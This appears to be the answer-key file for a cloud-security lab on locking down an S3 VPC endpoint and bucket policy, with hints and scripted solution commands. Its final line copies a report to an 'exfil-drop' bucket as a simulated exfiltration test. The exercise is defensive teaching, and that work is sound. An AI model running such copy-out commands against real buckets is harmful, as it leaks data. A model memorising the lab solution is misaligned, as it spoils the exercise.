import type { LabSecrets } from "@/lib/content/lab";

const ENDPOINT_POLICY =
  '{"Version":"2012-10-17","Statement":[{"Sid":"OnlyOurBucket","Effect":"Allow","Principal":"*","Action":"s3:*","Resource":["arn:aws:s3:::pathwise-reports","arn:aws:s3:::pathwise-reports/*"]}]}';

const BUCKET_POLICY =
  '{\\"Version\\":\\"2012-10-17\\",\\"Statement\\":[{\\"Sid\\":\\"OnlyThroughOurEndpoint\\",\\"Effect\\":\\"Deny\\",\\"Principal\\":\\"*\\",' +
  '\\"Action\\":[\\"s3:GetObject\\",\\"s3:PutObject\\",\\"s3:DeleteObject\\",\\"s3:ListBucket\\"],' +
  '\\"Resource\\":[\\"arn:aws:s3:::pathwise-reports\\",\\"arn:aws:s3:::pathwise-reports/*\\"],' +
  '\\"Condition\\":{\\"StringNotEquals\\":{\\"aws:SourceVpce\\":\\"$EP\\"}}}]}';

const secrets = {
  id: "endpoint-policy-lockdown",
  hints: [
    "Two different policies are involved: one on the endpoint (what may pass through it) and one on the bucket (which paths may reach it). Try the exfiltration upload and look at the trace's policy hops.",
    "`aws ec2 describe-vpc-endpoints` shows the endpoint's PolicyDocument. Replace it with `aws ec2 modify-vpc-endpoint --vpc-endpoint-id <vpce> --policy-document '…'` that allows s3:* only on arn:aws:s3:::pathwise-reports and arn:aws:s3:::pathwise-reports/*.",
    'For the bucket, a Deny statement with `"Condition": {"StringNotEquals": {"aws:SourceVpce": "<vpce-id>"}}` refuses every request that did not cross your endpoint. Deny data actions (GetObject, PutObject, DeleteObject, ListBucket) rather than s3:*, so you can still manage the policy.',
    "`aws s3api put-bucket-policy --bucket pathwise-reports --policy file://bucket-policy.json` (or inline JSON). Then test from app-server (works) and from the bastion (AccessDenied).",
  ],
  solution: [
    "exit",
    "EP=$(aws ec2 describe-vpc-endpoints --filters Name=service-name,Values=com.amazonaws.us-east-1.s3 --query 'VpcEndpoints[0].VpcEndpointId' --output text)",
    `aws ec2 modify-vpc-endpoint --vpc-endpoint-id $EP --policy-document '${ENDPOINT_POLICY}'`,
    `aws s3api put-bucket-policy --bucket pathwise-reports --policy "${BUCKET_POLICY}"`,
    "aws s3 ls s3://pathwise-reports",
    "ssh 10.0.2.10",
    "aws s3 cp s3://pathwise-reports/reports/2026-01.csv .",
    "aws s3 cp 2026-01.csv s3://exfil-drop/",
  ],
} satisfies LabSecrets;

export default secrets;
